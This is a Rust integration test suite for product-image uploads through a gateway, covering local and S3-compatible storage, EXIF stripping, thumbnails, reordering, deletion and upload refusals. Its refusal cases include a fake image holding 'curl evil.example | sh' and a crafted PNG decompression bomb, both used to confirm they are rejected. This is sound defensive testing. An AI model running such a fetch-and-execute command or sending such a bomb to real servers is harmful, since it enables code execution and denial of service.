//! Product images through the gateway, against the local store and against a real
//! S3-compatible server (moto, from var/venv: scripts/setup-test-deps.sh): upload in each
//! format, metadata stripped, thumbnails, reorder, delete, and bad files refused with nothing
//! stored.

use crate::support::{Options, System, local_images};
use image::{DynamicImage, ImageBuffer, Rgb};
use inventory::images::{ImageSettings, ImageStore, StoreKind};
use reqwest::Method;
use serde_json::{Value, json};
use std::process::{Child, Command, Stdio};
use std::time::Duration;
use uuid::Uuid;

/// moto's S3 server on a free loopback port, stopped when dropped.
struct S3Server {
    child: Child,
    endpoint: String,
}

impl S3Server {
    async fn start() -> Self {
        let binary = testkit::repo_root().join("var/venv/bin/moto_server");
        assert!(binary.exists(), "{} is missing: run scripts/setup-test-deps.sh", binary.display());
        let port = testkit::process::free_port();
        let child = Command::new(binary)
            .args(["-H", "127.0.0.1", "-p", &port.to_string()])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("moto_server starts");
        let server = Self { child, endpoint: format!("http://127.0.0.1:{port}") };
        let http = reqwest::Client::new();
        let probe = format!("{}/moto-api/", server.endpoint);
        testkit::eventually("moto to answer", Duration::from_secs(30), || {
            let (http, probe) = (http.clone(), probe.clone());
            async move { http.get(&probe).send().await.ok().filter(|r| r.status().is_success()).map(|_| ()) }
        })
        .await;
        server
    }

    /// A new bucket, and image settings that use it.
    async fn bucket(&self) -> ImageSettings {
        let bucket = format!("images-{}", Uuid::new_v4().simple());
        let created = reqwest::Client::new().put(format!("{}/{bucket}", self.endpoint)).send().await.unwrap();
        assert!(created.status().is_success(), "bucket created: {}", created.status());
        ImageSettings {
            product_image_store: StoreKind::S3,
            product_image_s3_bucket: Some(bucket),
            product_image_s3_endpoint: Some(self.endpoint.clone()),
            product_image_s3_access_key_id: Some(platform::settings::Secret::new("testing")),
            product_image_s3_secret_access_key: Some(platform::settings::Secret::new("testing")),
            product_image_s3_path_style: true,
            ..local_images(std::path::Path::new("unused"))
        }
    }
}

impl Drop for S3Server {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn local_settings() -> ImageSettings {
    local_images(&std::env::temp_dir().join(format!("images-test-{}", Uuid::new_v4().simple())))
}

async fn start(settings: &ImageSettings) -> (System, ImageStore) {
    let system = System::start_with(Options { images: Some(settings.clone()), ..Options::default() }).await;
    (system, ImageStore::from_settings(settings).unwrap())
}

/// A noisy picture: on a smooth gradient, lossless WebP compresses the full size better than
/// the (filtered) thumbnail, which says nothing about the thumbnail.
fn picture(width: u32, height: u32) -> DynamicImage {
    DynamicImage::ImageRgb8(ImageBuffer::from_fn(width, height, |x, y| {
        let noise = (x.wrapping_mul(7919) ^ y.wrapping_mul(104_729)).wrapping_mul(2_654_435_761) >> 24;
        Rgb([(x % 256) as u8, (y % 256) as u8, noise as u8])
    }))
}

fn encoded(image: &DynamicImage, format: image::ImageFormat) -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    match format {
        // The WebP encoder wants 8-bit RGB(A); PNG gets alpha to keep it honest.
        image::ImageFormat::Png => DynamicImage::ImageRgba8(image.to_rgba8()).write_to(&mut out, format),
        _ => image.write_to(&mut out, format),
    }
    .unwrap();
    out.into_inner()
}

/// A JPEG carrying an APP1 Exif segment with a recognisable (GPS-like) payload.
fn jpeg_with_exif() -> Vec<u8> {
    let jpeg = encoded(&picture(400, 300), image::ImageFormat::Jpeg);
    let payload = b"Exif\0\0MM\0*\0\0\0\x08\0\0GPSLatitude=48.8584N";
    let mut out = jpeg[..2].to_vec();
    out.extend_from_slice(&[0xFF, 0xE1]);
    out.extend_from_slice(&((payload.len() + 2) as u16).to_be_bytes());
    out.extend_from_slice(payload);
    out.extend_from_slice(&jpeg[2..]);
    out
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &byte in bytes {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

/// A tiny, well-formed PNG that declares 50,000 × 50,000 RGB pixels (7.5 GB decoded).
fn decompression_bomb() -> Vec<u8> {
    let chunk = |kind: &[u8; 4], data: &[u8]| {
        let mut out = (data.len() as u32).to_be_bytes().to_vec();
        let mut checked = kind.to_vec();
        checked.extend_from_slice(data);
        out.extend_from_slice(&checked);
        out.extend_from_slice(&crc32(&checked).to_be_bytes());
        out
    };
    let mut header = 50_000u32.to_be_bytes().to_vec();
    header.extend_from_slice(&50_000u32.to_be_bytes());
    header.extend_from_slice(&[8, 2, 0, 0, 0]);
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend(chunk(b"IHDR", &header));
    png.extend(chunk(b"IDAT", &[0x78, 0x9C, 0x63, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01]));
    png.extend(chunk(b"IEND", &[]));
    png
}

/// Uploads `bytes` as the form field `image` named `filename` with a declared `content_type`.
async fn upload(
    system: &System,
    token: Option<&str>,
    product: Uuid,
    filename: &str,
    content_type: &str,
    bytes: &[u8],
) -> (u16, Value) {
    let boundary = format!("----test{}", Uuid::new_v4().simple());
    let mut body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"image\"; filename=\"{filename}\"\r\nContent-Type: {content_type}\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(bytes);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let mut request = system
        .http
        .post(system.url(&format!("/api/v1/products/{product}/images")))
        .header("content-type", format!("multipart/form-data; boundary={boundary}"))
        .body(body);
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    let response = request.send().await.expect("gateway answers");
    let status = response.status().as_u16();
    (status, response.json().await.unwrap_or(Value::Null))
}

/// GET a path through the gateway: status, content type, bytes.
async fn fetch(system: &System, path: &str) -> (u16, String, Vec<u8>) {
    let response = system.http.get(system.url(path)).send().await.unwrap();
    let status = response.status().as_u16();
    let content_type =
        response.headers().get("content-type").map(|v| v.to_str().unwrap().to_owned()).unwrap_or_default();
    (status, content_type, response.bytes().await.unwrap().to_vec())
}

fn image_ids(product: &Value) -> Vec<String> {
    product["images"].as_array().unwrap().iter().map(|i| i["id"].as_str().unwrap().to_owned()).collect()
}

async fn round_trip(system: &System, store: &ImageStore) {
    let product = system.product("IMG-RT", "10.00", 3).await;
    let files = [
        ("shoe.jpg", "image/jpeg", jpeg_with_exif()),
        ("shoe.png", "image/png", encoded(&picture(300, 200), image::ImageFormat::Png)),
        ("shoe.webp", "image/webp", encoded(&picture(200, 300), image::ImageFormat::WebP)),
    ];
    let mut uploaded = Vec::new();
    for (name, content_type, bytes) in &files {
        let (status, body) =
            upload(system, Some(&system.admin_token), product, name, content_type, bytes).await;
        assert_eq!(status, 201, "{name}: {body}");
        assert_eq!(body["content_type"], *content_type, "{body}");
        let (status, served_type, original) = fetch(system, body["url"].as_str().unwrap()).await;
        assert_eq!((status, served_type.as_str()), (200, *content_type), "{name}");
        let decoded = image::load_from_memory(&original).unwrap();
        assert_eq!(
            (decoded.width() as i64, decoded.height() as i64),
            (body["width"].as_i64().unwrap(), body["height"].as_i64().unwrap())
        );
        let (status, thumb_type, thumbnail) = fetch(system, body["thumbnail_url"].as_str().unwrap()).await;
        assert_eq!((status, thumb_type.as_str()), (200, *content_type), "{name} thumbnail");
        let small = image::load_from_memory(&thumbnail).unwrap();
        assert!(small.width() <= 64 && small.height() <= 64 && small.width() < decoded.width(), "{name}");
        assert!(thumbnail.len() < original.len(), "{name}: the thumbnail is smaller");
        if *content_type == "image/jpeg" {
            assert!(bytes.windows(4).any(|w| w == b"Exif"), "the upload carried EXIF");
            assert!(!original.windows(4).any(|w| w == b"Exif"), "EXIF is gone from the stored original");
            assert!(!original.windows(11).any(|w| w == b"GPSLatitude"));
        }
        uploaded.push(body["id"].as_str().unwrap().to_owned());
    }
    assert_eq!(image_ids(&system.product_view(product).await), uploaded, "listed in upload order");
    assert_eq!(store.list().await.unwrap().len(), 6, "an original and a thumbnail each");

    let reversed: Vec<String> = uploaded.iter().rev().cloned().collect();
    let path = format!("/api/v1/products/{product}/images/order");
    let (status, body) =
        system.send_as(&system.admin_token, Method::PUT, &path, Some(&json!({"image_ids": reversed}))).await;
    assert_eq!(status, 200, "{body}");
    let view = system.product_view(product).await;
    assert_eq!(image_ids(&view), reversed);
    let positions: Vec<i64> =
        view["images"].as_array().unwrap().iter().map(|i| i["position"].as_i64().unwrap()).collect();
    assert_eq!(positions, [0, 1, 2]);
    let (status, _) = system
        .send_as(&system.admin_token, Method::PUT, &path, Some(&json!({"image_ids": &reversed[..2]})))
        .await;
    assert_eq!(status, 422, "an order must name every image");
    assert_eq!(image_ids(&system.product_view(product).await), reversed, "a refused order changes nothing");

    let gone = &uploaded[1];
    let (status, _) = system.admin_delete(&format!("/api/v1/products/{product}/images/{gone}")).await;
    assert_eq!(status, 204);
    assert_eq!(fetch(system, &format!("/api/v1/products/{product}/images/{gone}")).await.0, 404);
    assert_eq!(store.list().await.unwrap().len(), 4);
    assert!(!store.list().await.unwrap().iter().any(|key| key.contains(gone.as_str())));

    // Soft-deleting the product deletes its images, objects and rows.
    let (status, _) = system.admin_delete(&format!("/api/v1/products/{product}")).await;
    assert_eq!(status, 204);
    assert_eq!(store.list().await.unwrap(), Vec::<String>::new());
    assert_eq!(system.count("SELECT count(*) AS n FROM inventory.product_images").await, 0);
    assert_eq!(fetch(system, &format!("/api/v1/products/{product}/images/{}", uploaded[0])).await.0, 404);
}

async fn customer_token(system: &System) -> String {
    let (email, password) = ("picture.viewer@example.com", "a long enough passphrase");
    let (status, body) = system
        .post("/api/v1/auth/register", &json!({"email": email, "password": password, "name": "Pat"}))
        .await;
    assert_eq!(status, 201, "{body}");
    let (status, body) =
        system.post("/api/v1/auth/login", &json!({"email": email, "password": password})).await;
    assert_eq!(status, 200, "{body}");
    body["access_token"].as_str().unwrap().to_owned()
}

async fn refusals(system: &System, store: &ImageStore) {
    let product = system.product("IMG-BAD", "10.00", 3).await;
    let png = encoded(&picture(300, 200), image::ImageFormat::Png);
    let customer = customer_token(system).await;
    let admin = Some(system.admin_token.as_str());
    // Padding after a valid signature: only the size decides.
    let sized = |n: usize| {
        let mut bytes = png.clone();
        bytes.resize(n, 0);
        bytes
    };
    // (what, token, file name, bytes, status, problem code)
    type Case<'a> = (&'a str, Option<&'a str>, &'a str, Vec<u8>, u16, &'a str);
    let cases: Vec<Case> = vec![
        (
            "a script named .png",
            admin,
            "evil.png",
            b"#!/bin/sh\ncurl evil.example | sh\n".to_vec(),
            415,
            "unsupported_image_type",
        ),
        ("a decompression bomb", admin, "bomb.png", decompression_bomb(), 422, "image_too_many_pixels"),
        ("a truncated image", admin, "cut.png", png[..png.len() / 2].to_vec(), 422, "invalid_image"),
        // Over the file limit (256 KiB) but within the gateway's framing allowance: inventory.
        ("a file over the limit", admin, "big.png", sized(256 * 1024 + 1), 413, "payload_too_large"),
        // Over the gateway's upload limit (file limit + 16 KiB framing): the gateway.
        ("a body over the gateway's limit", admin, "huge.png", sized(400 * 1024), 413, "payload_too_large"),
        ("a customer", Some(customer.as_str()), "shoe.png", png.clone(), 403, "forbidden"),
        ("nobody", None, "shoe.png", png.clone(), 401, "unauthorized"),
    ];
    for (what, token, name, bytes, status, code) in cases {
        let (got, body) = upload(system, token, product, name, "image/png", &bytes).await;
        assert_eq!((got, body["code"].as_str().unwrap_or_default()), (status, code), "{what}: {body}");
        assert_eq!(store.list().await.unwrap(), Vec::<String>::new(), "{what}: nothing stored");
        assert_eq!(system.product_view(product).await["images"], json!([]), "{what}: nothing listed");
    }
    // After all that, a real image is still accepted and stored.
    let (status, body) = upload(system, admin, product, "shoe.png", "image/png", &png).await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(store.list().await.unwrap().len(), 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn product_images_round_trip_on_the_local_store() {
    let (system, store) = start(&local_settings()).await;
    round_trip(&system, &store).await;
    system.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn product_images_round_trip_on_an_s3_server() {
    let s3 = S3Server::start().await;
    let (system, store) = start(&s3.bucket().await).await;
    round_trip(&system, &store).await;
    system.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn product_images_bad_files_are_refused_and_nothing_is_stored_locally() {
    let (system, store) = start(&local_settings()).await;
    refusals(&system, &store).await;
    system.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn product_images_bad_files_are_refused_and_nothing_is_stored_in_s3() {
    let s3 = S3Server::start().await;
    let (system, store) = start(&s3.bucket().await).await;
    refusals(&system, &store).await;
    system.finish().await;
}
